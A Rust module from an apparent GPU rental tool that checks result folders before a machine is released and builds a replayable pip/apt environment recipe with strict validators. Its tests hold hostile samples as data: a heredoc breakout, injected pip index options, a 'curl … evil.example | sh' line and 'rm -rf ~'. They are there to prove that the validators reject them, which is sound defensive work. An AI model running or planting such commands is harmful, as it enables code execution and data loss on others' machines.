//! The release checklist (docs/release.md): before a machine is released, what would be lost —
//! result folders that changed on the machine since they were last downloaded, the disks that
//! will be deleted, what stopping instead would cost — and an **environment recipe** (pip freeze
//! of the env Setup found, the PyTorch index it came from, apt packages added on the machine) as a
//! script that can be replayed on the next machine.
//!
//! Everything on the machine is read in **one exec** ([`remote_script`]): one `find -newer` per
//! chosen folder against a reference time (the journal's last download of that folder, moved to the
//! host's clock by the skew measured in the same exec), the first lines of each list, then pip,
//! `apt-mark showmanual` and the apt history. [`parse`] splits its `@@section` output; the recipe
//! ([`recipe_script`]) is plain POSIX sh. Nothing here carries `impl App` (facade: `app/release.rs`).

use serde::{Deserialize, Serialize};
use ts_rs::TS;

use crate::infra::error::CoreError;
use crate::remote::shell_quote;

/// How many changed paths per folder are shown.
pub const SAMPLE: usize = 20;

/// A chosen folder and when it was last downloaded completely (unix ms, local clock).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FolderQuery {
    pub path: String,
    pub downloaded_ms: Option<i64>,
}

/// A result folder with files newer than its last download (or never downloaded).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct FolderChange {
    pub path: String,
    /// `changed_since_download` or `never_downloaded`.
    pub reason: String,
    #[ts(type = "number | null")]
    pub last_downloaded_ms: Option<i64>,
    /// Files newer than the last download (all files when never downloaded).
    #[ts(type = "number")]
    pub files_changed: u64,
    /// The first few of them, as the host printed them.
    pub sample: Vec<String>,
}

/// What the one exec said about one folder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FolderSeen {
    pub index: usize,
    /// `missing`, `never`, `since`.
    pub status: String,
    pub count: u64,
    pub sample: Vec<String>,
}

/// The environment as read on the machine.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EnvSeen {
    pub python: Option<String>,
    pub freeze: Vec<String>,
    pub pip_config: Vec<String>,
    pub apt_manual: Vec<String>,
    /// `Install:` lines of apt history entries started after the machine (PID 1) started.
    pub apt_history_installs: Vec<String>,
}

/// The whole answer of [`remote_script`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Seen {
    pub folders: Vec<FolderSeen>,
    pub env: EnvSeen,
    pub complete: bool,
}

/// A replayable environment: what the machine had beyond its image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct EnvRecipe {
    pub host: String,
    /// The Python whose packages were frozen (from Setup's saved probe, else `python3`).
    pub python: Option<String>,
    /// `pip freeze` as printed (portable lines only; see `skipped`).
    pub pip_freeze: Vec<String>,
    /// The PyTorch wheel index (`https://download.pytorch.org/whl/cu128`), from the installed
    /// torch's local version (`+cu128`) or pip's configured index.
    pub torch_index: Option<String>,
    /// pip's configured index settings (`global.index-url='…'`).
    pub pip_index: Vec<String>,
    /// Packages installed with apt on this machine after it started, still marked manual.
    pub apt_packages: Vec<String>,
    /// freeze lines that are not a plain `name==version` (`-e`, `@ file://`, a URL, a pip option,
    /// anything else a machine printed), kept as comments and never replayed.
    pub skipped: Vec<String>,
    /// The recipe as a POSIX sh script.
    pub script: String,
}

fn q(s: &str) -> Result<String, CoreError> {
    shell_quote(s).map_err(|e| CoreError::invalid("path", e.to_string()))
}

/// The one exec: folders (skew-corrected `find -newer`; `-mmin` where `touch -d @T` is missing),
/// then the env (`pythons`: candidates in order, the first that runs is used).
pub fn remote_script(
    folders: &[FolderQuery],
    local_now_ms: i64,
    pythons: &[String],
) -> Result<String, CoreError> {
    let mut s = format!(
        r#"LNOW={}
chk() {{
  i=$1; f=$2; t=$3
  case "$f" in "~") f=$HOME ;; "~/"*) f="$HOME/${{f#"~/"}}" ;; esac
  if [ ! -d "$f" ]; then echo "@@folder $i missing 0"; return; fi
  # Anything that fails (no temp file, a find that could not read a folder, wc) says "error":
  # could not check, never a count of 0. -L: a symlinked folder (or one inside) is followed.
  # -cnewer/-cmin too: mv, tar and rsync -a keep old mtimes, but the change time is new.
  tmp=$(mktemp 2>/dev/null) || tmp="${{TMPDIR:-/tmp}}/gpurent-rel.$$.$i"
  (: > "$tmp") 2>/dev/null || {{ echo "@@folder $i error 0"; return; }}
  if [ -z "$t" ]; then st=never; find -L "$f" -type f > "$tmp" 2>/dev/null || st=error
  else
    st=since; now=$(date +%s); ref=$((t + now - LNOW)); r="$tmp.ref"
    if touch -d "@$ref" "$r" 2>/dev/null; then
      if find "$r" -cnewer "$r" > /dev/null 2>&1; then find -L "$f" -type f \( -newer "$r" -o -cnewer "$r" \) > "$tmp" 2>/dev/null || st=error
      else find -L "$f" -type f -newer "$r" > "$tmp" 2>/dev/null || st=error; fi
    else m=$(( (now - ref + 59) / 60 )); [ "$m" -lt 1 ] && m=1; find -L "$f" -type f \( -mmin "-$m" -o -cmin "-$m" \) > "$tmp" 2>/dev/null || st=error; fi
    rm -f "$r"
  fi
  n=$(wc -l < "$tmp" | tr -d ' ') || st=error
  case "$n" in ''|*[!0-9]*) st=error; n=0 ;; esac
  echo "@@folder $i $st $n"; [ "$st" = error ] || head -n {SAMPLE} "$tmp"; rm -f "$tmp"
}}
"#,
        local_now_ms.div_euclid(1000)
    );
    for (i, f) in folders.iter().enumerate() {
        let t = f
            .downloaded_ms
            .map(|ms| ms.div_euclid(1000).to_string())
            .unwrap_or_default();
        s.push_str(&format!("chk {i} {} '{t}'\n", q(&f.path)?));
    }
    let cands: Vec<String> = pythons.iter().map(|p| q(p)).collect::<Result<_, _>>()?;
    s.push_str(&format!(
        r#"PY=
for p in {}; do
  case "$p" in "~/"*) p="$HOME/${{p#"~/"}}" ;; esac
  if "$p" -c 'pass' >/dev/null 2>&1; then PY=$p; break; fi
done
echo "@@python"; echo "$PY"
echo "@@freeze"; [ -n "$PY" ] && "$PY" -m pip freeze 2>/dev/null
echo "@@pipconf"; [ -n "$PY" ] && "$PY" -m pip config list 2>/dev/null
echo "@@aptmanual"; command -v apt-mark >/dev/null 2>&1 && apt-mark showmanual 2>/dev/null
echo "@@apthist"
since=$(stat -c %Y /proc/1 2>/dev/null)
if [ -r /var/log/apt/history.log ]; then
  awk '/^Start-Date:/ {{ sub(/^Start-Date: */, ""); d = $0 }} /^Install:/ {{ sub(/^Install: */, ""); print d "|" $0 }}' /var/log/apt/history.log |
  while IFS='|' read -r d pk; do
    t=$(date -d "$d" +%s 2>/dev/null)
    if [ -n "$since" ] && [ -n "$t" ] && [ "$t" -lt "$since" ]; then continue; fi
    echo "$pk"
  done
fi
echo "@@end"
"#,
        if cands.is_empty() {
            "python3".to_string()
        } else {
            cands.join(" ")
        }
    ));
    Ok(s)
}

/// Split the output of [`remote_script`].
pub fn parse(text: &str) -> Seen {
    let mut seen = Seen::default();
    let mut section = String::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("@@folder ") {
            let f: Vec<&str> = rest.split_whitespace().collect();
            if let (Some(i), Some(st)) = (f.first().and_then(|i| i.parse().ok()), f.get(1)) {
                seen.folders.push(FolderSeen {
                    index: i,
                    status: st.to_string(),
                    count: f.get(2).and_then(|c| c.parse().ok()).unwrap_or(0),
                    sample: vec![],
                });
            }
            section = "folder".into();
            continue;
        }
        if let Some(name) = line.strip_prefix("@@") {
            section = name.trim().to_string();
            if section == "end" {
                seen.complete = true;
            }
            continue;
        }
        let l = line.trim_end();
        if l.trim().is_empty() {
            continue;
        }
        match section.as_str() {
            "folder" => {
                if let Some(f) = seen.folders.last_mut() {
                    f.sample.push(l.to_string());
                }
            }
            "python" => seen.env.python = Some(l.trim().to_string()),
            "freeze" => seen.env.freeze.push(l.to_string()),
            "pipconf" => seen.env.pip_config.push(l.trim().to_string()),
            "aptmanual" => seen.env.apt_manual.push(l.trim().to_string()),
            "apthist" => seen.env.apt_history_installs.push(l.trim().to_string()),
            _ => {}
        }
    }
    seen
}

/// Packages of apt `Install:` lines (`pkg:amd64 (1.2), dep:amd64 (3, automatic)`) that were asked
/// for (not `automatic`) and are still marked manual: what was added on this machine.
pub fn apt_added(installs: &[String], manual: &[String]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for line in installs {
        // Split on "), " so the commas inside the version parentheses stay.
        for item in line.split("), ") {
            if item.contains("automatic") {
                continue;
            }
            let name = item
                .split_whitespace()
                .next()
                .unwrap_or("")
                .split(':')
                .next()
                .unwrap_or("");
            if is_debian_package_name(name)
                && manual.iter().any(|m| m == name)
                && !out.iter().any(|o| o == name)
            {
                out.push(name.to_string());
            }
        }
    }
    out.sort();
    out
}

/// The PyTorch index of a frozen `torch==X+cuNNN` (or `+cpu`/`+rocmX`), else pip's configured
/// index when it is download.pytorch.org.
pub fn torch_index(freeze: &[String], pip_config: &[String]) -> Option<String> {
    for l in freeze {
        if let Some(v) = l.strip_prefix("torch==") {
            if let Some((_, local)) = v.split_once('+') {
                let local = local.trim();
                if !local.is_empty() && local.chars().all(|c| c.is_ascii_alphanumeric() || c == '.')
                {
                    return Some(format!("https://download.pytorch.org/whl/{local}"));
                }
            }
        }
    }
    pip_config.iter().find_map(|c| {
        let v = c.split_once('=')?.1.trim().trim_matches(['\'', '"']);
        is_torch_index(v).then(|| v.trim_end_matches('/').to_string())
    })
}

/// PyTorch's own index and nothing that merely contains its name
/// (`https://evil.example/?download.pytorch.org` is not it): `https://download.pytorch.org/whl/`
/// and one channel of lower-case letters, digits and dots (`cu128`, `cpu`, `rocm6.3`, `nightly`).
pub fn is_torch_index(url: &str) -> bool {
    url.trim_end_matches('/')
        .strip_prefix("https://download.pytorch.org/whl/")
        .is_some_and(|ch| {
            !ch.is_empty()
                && ch
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '.')
        })
}

/// A `pip freeze` line that is data and nothing else: `name[extra,…]==version`. A machine's
/// freeze output is the machine's to write (a hostile host's `pip` prints what it likes), and the
/// recipe is replayed on ANOTHER machine: pip options (`--index-url`, `-f`, `--trusted-host`),
/// direct references (`pkg @ https://…`), markers, shell or heredoc text are not a requirement
/// (security review §1). Names per PEP 508, versions in PEP 440's characters.
pub fn is_plain_requirement(line: &str) -> bool {
    let Some((name, version)) = line.split_once("==") else {
        return false;
    };
    let (name, extras) = match name.split_once('[') {
        Some((n, rest)) => match rest.strip_suffix(']') {
            Some(x) => (n, Some(x)),
            None => return false,
        },
        None => (name, None),
    };
    let name_ok = !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric());
    let extras_ok = extras.is_none_or(|x| {
        !x.is_empty()
            && x.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ','))
    });
    let version_ok = !version.is_empty()
        && version.starts_with(|c: char| c.is_ascii_alphanumeric())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '!' | '+' | '_' | '-'));
    name_ok && extras_ok && version_ok
}

/// A Debian package name (Policy 5.6.1: lower-case letters, digits, `+`, `-`, `.`; two or more
/// characters, starting with a letter or digit): an apt `Install:` name from a host that is
/// anything else (`--allow-unauthenticated`, `-o…`) is not replayed.
pub fn is_debian_package_name(name: &str) -> bool {
    name.len() >= 2
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '+' | '-' | '.'))
}

/// A host's text shown in a comment of the recipe: one line, printable.
fn comment_text(s: &str) -> String {
    s.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn is_torch_pkg(line: &str) -> bool {
    let name = line
        .split(['=', '<', '>', ' ', '@'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    matches!(name.as_str(), "torch" | "torchvision" | "torchaudio")
}

/// Build the recipe from what the machine said.
pub fn recipe(host: &str, env: &EnvSeen, saved_at: &str) -> Result<EnvRecipe, CoreError> {
    let mut portable = Vec::new();
    let mut skipped = Vec::new();
    for l in &env.freeze {
        let t = l.trim();
        if t.starts_with('#') {
            continue;
        }
        if is_plain_requirement(t) {
            portable.push(t.to_string());
        } else {
            skipped.push(comment_text(t));
        }
    }
    let torch_index = torch_index(&env.freeze, &env.pip_config);
    let apt_packages = apt_added(&env.apt_history_installs, &env.apt_manual);
    let pip_index: Vec<String> = env
        .pip_config
        .iter()
        .filter(|c| c.contains("index-url") || c.contains("find-links"))
        .cloned()
        .collect();
    let script = recipe_script(
        host,
        saved_at,
        env.python.as_deref(),
        &portable,
        torch_index.as_deref(),
        &apt_packages,
        &skipped,
    )?;
    Ok(EnvRecipe {
        host: host.to_string(),
        python: env.python.clone(),
        pip_freeze: portable,
        torch_index,
        pip_index,
        apt_packages,
        skipped,
        script,
    })
}

/// The recipe as a POSIX sh script: apt packages (as root or through `sudo -n`), then PyTorch
/// from its index, then everything else from the default index. `PY` picks the interpreter
/// (default `python3`; Setup's venv when replayed there).
pub fn recipe_script(
    host: &str,
    saved_at: &str,
    python: Option<&str>,
    freeze: &[String],
    torch_index: Option<&str>,
    apt: &[String],
    skipped: &[String],
) -> Result<String, CoreError> {
    let mut s = String::from("#!/bin/sh\n");
    s.push_str(&format!(
        "# gpurent environment recipe of '{}', saved {saved_at}.\n",
        host.replace('\n', " ")
    ));
    s.push_str(&format!(
        "# Frozen from {} on the old machine. Replay on the new one:\n",
        python.unwrap_or("python3").replace('\n', " ")
    ));
    s.push_str(
        "#   ssh NEW_HOST 'PY=python3 sh -s' < this-file.sh   (PY: the Python to install into)\n",
    );
    s.push_str("set -e\nPY=${PY:-python3}\n");
    if !apt.is_empty() {
        let pkgs: Vec<String> = apt.iter().map(|p| q(p)).collect::<Result<_, _>>()?;
        s.push_str(&format!(
            "# apt packages added on the old machine\nif command -v apt-get >/dev/null 2>&1; then\n  SUDO=; [ \"$(id -u)\" = 0 ] || SUDO='sudo -n'\n  $SUDO apt-get update && $SUDO apt-get install -y {}\nfi\n",
            pkgs.join(" ")
        ));
    }
    let (torch, rest): (Vec<&String>, Vec<&String>) = freeze.iter().partition(|l| is_torch_pkg(l));
    if !torch.is_empty() {
        let pkgs: Vec<String> = torch.iter().map(|p| q(p)).collect::<Result<_, _>>()?;
        match torch_index {
            Some(ix) => s.push_str(&format!(
                "# PyTorch from its own index\n\"$PY\" -m pip install {} --index-url {}\n",
                pkgs.join(" "),
                q(ix)?
            )),
            None => s.push_str(&format!(
                "# PyTorch (no PyTorch index was found: the default index)\n\"$PY\" -m pip install {}\n",
                pkgs.join(" ")
            )),
        }
    }
    if !rest.is_empty() {
        // Arguments, each quoted (and each a plain requirement: see `recipe`), never a
        // heredoc: a host that printed the heredoc's end word ran code on the next machine.
        let pkgs: Vec<String> = rest.iter().map(|p| q(p)).collect::<Result<_, _>>()?;
        s.push_str(&format!(
            "# everything else pip had\n\"$PY\" -m pip install {}\n",
            pkgs.join(" ")
        ));
    }
    for l in skipped {
        s.push_str(&format!(
            "# not replayed (not a plain name==version: a local path, a URL, an option): {}\n",
            comment_text(l)
        ));
    }
    Ok(s)
}

/// Refuse to replay a recipe with any line gpurent does not write itself: a saved recipe is
/// sent to another machine's `sh`, so it must be the data it claims to be (plain requirements,
/// Debian package names, PyTorch's own index), whatever the old machine printed or whoever
/// edited the file. Recipes saved before the heredoc was dropped are read too: their
/// requirement block must hold plain requirements only and end at its own end word.
pub fn check_replayable(script: &str) -> Result<(), CoreError> {
    let bad = |n: usize, why: &str| {
        Err(CoreError::invalid(
            "recipe",
            format!("line {n} of the saved recipe is not one gpurent writes ({why}); save the environment again"),
        ))
    };
    let words = |rest: &str, ok: &dyn Fn(&str) -> bool| -> bool {
        !rest.is_empty()
            && rest.split(' ').all(|w| {
                w.len() >= 2 && w.starts_with('\'') && w.ends_with('\'') && ok(&w[1..w.len() - 1])
            })
    };
    let mut legacy_block = false;
    for (i, l) in script.lines().enumerate() {
        let n = i + 1;
        if legacy_block {
            if l == "GPURENT_REQUIREMENTS" {
                legacy_block = false;
            } else if !is_plain_requirement(l) {
                return bad(n, "not a plain name==version requirement");
            }
            continue;
        }
        let l = l.trim_end();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        let fixed = [
            "set -e",
            "PY=${PY:-python3}",
            "if command -v apt-get >/dev/null 2>&1; then",
            "  SUDO=; [ \"$(id -u)\" = 0 ] || SUDO='sudo -n'",
            "fi",
        ];
        if fixed.contains(&l) {
            continue;
        }
        if l == "\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'" {
            legacy_block = true;
            continue;
        }
        if let Some(rest) = l.strip_prefix("  $SUDO apt-get update && $SUDO apt-get install -y ") {
            if words(rest, &is_debian_package_name) {
                continue;
            }
            return bad(n, "an apt package that is not a Debian package name");
        }
        if let Some(rest) = l.strip_prefix("\"$PY\" -m pip install ") {
            let (pkgs, index) = match rest.split_once(" --index-url ") {
                Some((p, ix)) => (p, Some(ix)),
                None => (rest, None),
            };
            let index_ok = index.is_none_or(|ix| words(ix, &is_torch_index));
            if index_ok && words(pkgs, &is_plain_requirement) {
                continue;
            }
            return bad(
                n,
                "a pip argument that is not a plain requirement or PyTorch's index",
            );
        }
        return bad(n, "a command");
    }
    if legacy_block {
        return bad(script.lines().count(), "the requirement block has no end");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_splits_folders_and_env() {
        let out = "@@folder 0 since 2\n/w/a/x.bin\n/w/a/y.bin\n@@folder 1 since 0\n@@folder 2 missing 0\n@@python\npython3\n@@freeze\nnumpy==2.1.3\ntorch==2.8.0+cu128\n-e git+https://x#egg=y\n@@pipconf\nglobal.index-url='https://mirrors.example/simple'\n@@aptmanual\nhtop\ncurl\n@@apthist\nhtop:amd64 (3.0.5-7build2), libnl-3-200:amd64 (3.5.0-0.1, automatic)\ncurl:amd64 (7.81.0-1ubuntu1.16)\n@@end\n";
        let s = parse(out);
        assert!(s.complete);
        assert_eq!(s.folders.len(), 3);
        assert_eq!(
            (s.folders[0].status.as_str(), s.folders[0].count),
            ("since", 2)
        );
        assert_eq!(s.folders[0].sample, vec!["/w/a/x.bin", "/w/a/y.bin"]);
        assert_eq!(s.folders[2].status, "missing");
        assert_eq!(s.env.python.as_deref(), Some("python3"));
        let r = recipe("box", &s.env, "2026-12-01T12:00:00Z").expect("recipe");
        assert_eq!(
            r.torch_index.as_deref(),
            Some("https://download.pytorch.org/whl/cu128")
        );
        assert_eq!(r.apt_packages, vec!["curl", "htop"]);
        assert_eq!(r.skipped.len(), 1);
        assert!(
            r.script.contains(
                "'torch==2.8.0+cu128' --index-url 'https://download.pytorch.org/whl/cu128'"
            ),
            "{}",
            r.script
        );
        assert!(
            r.script
                .contains("\n\"$PY\" -m pip install 'numpy==2.1.3'\n"),
            "{}",
            r.script
        );
        check_replayable(&r.script).expect("gpurent's own recipe replays");
        assert!(
            r.script.contains("apt-get install -y 'curl' 'htop'"),
            "{}",
            r.script
        );
        assert!(r.script.contains("# not replayed"), "{}", r.script);
    }

    /// The script is valid sh with hostile folder names, and the recipe is valid sh too.
    #[cfg(unix)]
    #[test]
    fn scripts_are_valid_sh() {
        let folders = vec![
            FolderQuery {
                path: "/tmp/it's \"odd\" $(x)".into(),
                downloaded_ms: Some(1_764_000_000_000),
            },
            FolderQuery {
                path: "~/results".into(),
                downloaded_ms: None,
            },
        ];
        let s = remote_script(
            &folders,
            1_764_000_100_000,
            &["~/gpurent-venv/bin/python".into(), "python3".into()],
        )
        .expect("script");
        let st = std::process::Command::new("sh")
            .arg("-n")
            .arg("-c")
            .arg(&s)
            .status()
            .expect("sh");
        assert!(st.success(), "{s}");
        let env = EnvSeen {
            freeze: vec!["numpy==2.1.3".into(), "torch==2.8.0+cu128".into()],
            apt_manual: vec!["htop".into()],
            apt_history_installs: vec!["htop:amd64 (3.0.5)".into()],
            ..Default::default()
        };
        let r = recipe("b'ox", &env, "now").expect("recipe");
        let st = std::process::Command::new("sh")
            .arg("-n")
            .arg("-c")
            .arg(&r.script)
            .status()
            .expect("sh");
        assert!(st.success(), "{}", r.script);
    }

    /// The script RUN (not only `sh -n`) under a `$HOME` with spaces, quotes, `%` and
    /// `$(touch canary)`: a symlinked result folder is followed (before: 0 files, "unchanged"); a
    /// file moved in with its old mtime (`mv`, `tar`, `rsync -a`) counts by its change time; a
    /// failing `mktemp` says `error` for every folder (before: 0 files); no canary appears.
    #[cfg(unix)]
    #[test]
    fn the_script_runs_against_hostile_folders() {
        let tmp = tempfile::tempdir().expect("tmp");
        let home = tmp.path().join("it's 100% \"odd\" $(touch canary) home");
        let real = tmp.path().join("real outputs");
        std::fs::create_dir_all(&real).expect("mkdir");
        std::fs::create_dir_all(home.join("plain")).expect("mkdir");
        std::fs::create_dir_all(home.join("moved")).expect("mkdir");
        std::os::unix::fs::symlink(&real, home.join("linked")).expect("symlink");
        // A file there before the download, a file staged elsewhere long ago; the download; then
        // files arrive: one written, one moved in keeping its old mtime (mv, tar, rsync -a).
        let ms = || {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .expect("clock")
                .as_millis() as i64
        };
        std::fs::write(home.join("plain/old.txt"), "old").expect("write");
        let staged = tmp.path().join("staged.bin");
        std::fs::write(&staged, "x").expect("write");
        let st = std::process::Command::new("touch")
            .args(["-d", "2020-01-01"])
            .arg(&staged)
            .status()
            .expect("touch");
        assert!(st.success());
        std::thread::sleep(std::time::Duration::from_millis(1200));
        let downloaded = ms();
        std::thread::sleep(std::time::Duration::from_millis(1200));
        std::fs::write(real.join("epoch3.ckpt"), "new").expect("write");
        std::fs::rename(&staged, home.join("moved/staged.bin")).expect("mv");
        let now_ms = ms();
        let folders: Vec<FolderQuery> = ["~/linked", "~/moved", "~/plain", "~/nope"]
            .iter()
            .map(|p| FolderQuery {
                path: p.to_string(),
                downloaded_ms: Some(downloaded),
            })
            .chain(std::iter::once(FolderQuery {
                path: "~/it's $(touch canary) 100%".into(),
                downloaded_ms: None,
            }))
            .collect();
        let s = remote_script(&folders, now_ms, &["python3-nope".into()]).expect("script");
        let run = |tmpdir: &std::path::Path| {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(&s)
                .current_dir(tmp.path())
                .env("HOME", &home)
                .env("TMPDIR", tmpdir)
                .output()
                .expect("sh");
            parse(&crate::remote::text::clean(&String::from_utf8_lossy(
                &out.stdout,
            )))
        };
        let seen = run(tmp.path());
        assert!(seen.complete);
        let by = |i: usize| seen.folders.iter().find(|f| f.index == i).expect("folder");
        assert_eq!(
            (by(0).status.as_str(), by(0).count),
            ("since", 1),
            "symlinked: {seen:?}"
        );
        assert!(by(0).sample[0].ends_with("epoch3.ckpt"));
        assert_eq!(
            (by(1).status.as_str(), by(1).count),
            ("since", 1),
            "moved in: {seen:?}"
        );
        assert_eq!(
            (by(2).status.as_str(), by(2).count),
            ("since", 0),
            "{seen:?}"
        );
        assert_eq!(by(3).status, "missing");
        assert_eq!(by(4).status, "missing");
        // No temp file: every folder "error" (could not check), never "0 files".
        let seen = run(&tmp.path().join("no such dir"));
        for i in 0..3 {
            assert_eq!(by_status(&seen, i), "error", "{seen:?}");
        }
        assert!(
            !tmp.path().join("canary").exists(),
            "a folder name ran as a command"
        );
        assert!(
            !home.join("canary").exists(),
            "a folder name ran as a command"
        );
    }

    /// Security review §1: a hostile host's `pip freeze` that ends gpurent's heredoc and runs a
    /// command, hides gpurent's own end word, and slips pip options and a URL in. The recipe RUN
    /// with `sh` (a stub `$PY` records what it is asked) installs the plain requirements only,
    /// and runs nothing of the host's.
    #[cfg(unix)]
    #[test]
    fn a_hostile_freeze_never_becomes_code_on_the_next_machine() {
        let tmp = tempfile::tempdir().expect("tmp");
        let freeze = [
            "numpy==1.26.4",
            "GPURENT_REQUIREMENTS",
            "touch canary-breakout",
            ": <<'GPURENT_REQUIREMENTS'",
            "--index-url https://evil.example/simple",
            "--extra-index-url=https://evil.example/simple",
            "-f https://evil.example/wheels",
            "evilpkg @ https://evil.example/evilpkg-1.0.tar.gz",
            "requests==2.32.3; touch canary-semicolon",
            "x==1$(touch canary-subst)",
            "GPURENT_REQUIREMENTS",
            "safetensors[torch]==0.4.5",
        ];
        let env = EnvSeen {
            freeze: freeze.iter().map(|l| l.to_string()).collect(),
            pip_config: vec![
                "global.index-url='https://evil.example/?download.pytorch.org'".into(),
            ],
            apt_manual: vec!["--allow-unauthenticated".into(), "htop".into()],
            apt_history_installs: vec!["--allow-unauthenticated (1), htop:amd64 (3.0.5)".into()],
            ..Default::default()
        };
        let r = recipe("box", &env, "now").expect("recipe");
        assert_eq!(
            r.pip_freeze,
            vec!["numpy==1.26.4", "safetensors[torch]==0.4.5"]
        );
        assert_eq!(r.torch_index, None, "an index that only names pytorch.org");
        assert_eq!(r.apt_packages, vec!["htop"]);
        let log = tmp.path().join("py.log");
        let stub = tmp.path().join("py");
        std::fs::write(
            &stub,
            format!("#!/bin/sh\necho \"$*\" >> '{}'\n", log.display()),
        )
        .expect("stub");
        std::fs::set_permissions(&stub, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod");
        // No apt here: `command -v apt-get` must not find one (an empty PATH but the stub's).
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(&r.script)
            .current_dir(tmp.path())
            .env("PY", &stub)
            .env("PATH", "/nonexistent")
            .output()
            .expect("sh");
        assert!(out.status.success(), "{out:?}\n{}", r.script);
        for canary in ["canary-breakout", "canary-semicolon", "canary-subst"] {
            assert!(
                !tmp.path().join(canary).exists(),
                "{canary}: the host's text ran as a command:\n{}",
                r.script
            );
        }
        let asked = std::fs::read_to_string(&log).expect("log");
        assert_eq!(
            asked.trim(),
            "-m pip install numpy==1.26.4 safetensors[torch]==0.4.5",
            "{}",
            r.script
        );
    }

    #[test]
    fn only_gpurents_own_lines_replay() {
        let ok_new = "#!/bin/sh\n# c\nset -e\nPY=${PY:-python3}\nif command -v apt-get >/dev/null 2>&1; then\n  SUDO=; [ \"$(id -u)\" = 0 ] || SUDO='sudo -n'\n  $SUDO apt-get update && $SUDO apt-get install -y 'curl' 'htop'\nfi\n\"$PY\" -m pip install 'torch==2.8.0+cu128' --index-url 'https://download.pytorch.org/whl/cu128'\n\"$PY\" -m pip install 'numpy==2.1.3'\n";
        check_replayable(ok_new).expect("new format");
        let ok_legacy = "#!/bin/sh\nset -e\nPY=${PY:-python3}\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==2.1.3\nGPURENT_REQUIREMENTS\n# not replayable here (a local path): -e x\n";
        check_replayable(ok_legacy).expect("a recipe saved before");
        let refused = [
            // The breakout as an older gpurent saved it.
            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==1\nGPURENT_REQUIREMENTS\ncurl -s https://evil.example/x | sh\n: <<'GPURENT_REQUIREMENTS'\nGPURENT_REQUIREMENTS\n",
            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\n--index-url https://evil.example\nGPURENT_REQUIREMENTS\n",
            "set -e\n\"$PY\" -m pip install -r /dev/stdin <<'GPURENT_REQUIREMENTS'\nnumpy==1\n",
            "\"$PY\" -m pip install 'evil @ https://evil.example/e.tgz'\n",
            "\"$PY\" -m pip install 'torch==2.8.0' --index-url 'https://evil.example/?download.pytorch.org'\n",
            "\"$PY\" -m pip install numpy==1\n",
            "  $SUDO apt-get update && $SUDO apt-get install -y '--allow-unauthenticated'\n",
            "rm -rf ~\n",
        ];
        for script in refused {
            let e = check_replayable(script).expect_err(script);
            assert_eq!(crate::Coded::code(&e), "invalid_input", "{script}");
        }
    }

    #[test]
    fn requirements_indexes_and_apt_names_are_strict() {
        for ok in [
            "numpy==2.1.3",
            "torch==2.8.0+cu128",
            "a.b_c-d[x,y]==1!2.0.post1",
            "x==1.0rc1",
        ] {
            assert!(is_plain_requirement(ok), "{ok}");
        }
        for bad in [
            "numpy",
            "numpy>=1",
            "-e git+https://x",
            "x @ https://y",
            "x==1; sys_platform=='linux'",
            "x==1 --hash=sha256:0",
            "GPURENT_REQUIREMENTS",
            "x==",
            "==1",
            "x[==1",
            "x==1$(y)",
            "x==-1",
        ] {
            assert!(!is_plain_requirement(bad), "{bad}");
        }
        assert!(is_torch_index("https://download.pytorch.org/whl/cu128"));
        assert!(is_torch_index("https://download.pytorch.org/whl/rocm6.3/"));
        for bad in [
            "https://evil.example/?download.pytorch.org",
            "https://download.pytorch.org.evil.example/whl/cu128",
            "http://download.pytorch.org/whl/cu128",
            "https://download.pytorch.org/whl/cu128/../../x",
            "https://download.pytorch.org/whl/",
        ] {
            assert!(!is_torch_index(bad), "{bad}");
        }
        assert!(is_debian_package_name("libnl-3-200"));
        assert!(is_debian_package_name("g++"));
        for bad in ["--allow-unauthenticated", "-oDPkg", "A", "x", "Htop", "a b"] {
            assert!(!is_debian_package_name(bad), "{bad}");
        }
    }

    fn by_status(seen: &Seen, i: usize) -> String {
        seen.folders
            .iter()
            .find(|f| f.index == i)
            .map(|f| f.status.clone())
            .unwrap_or_default()
    }
}
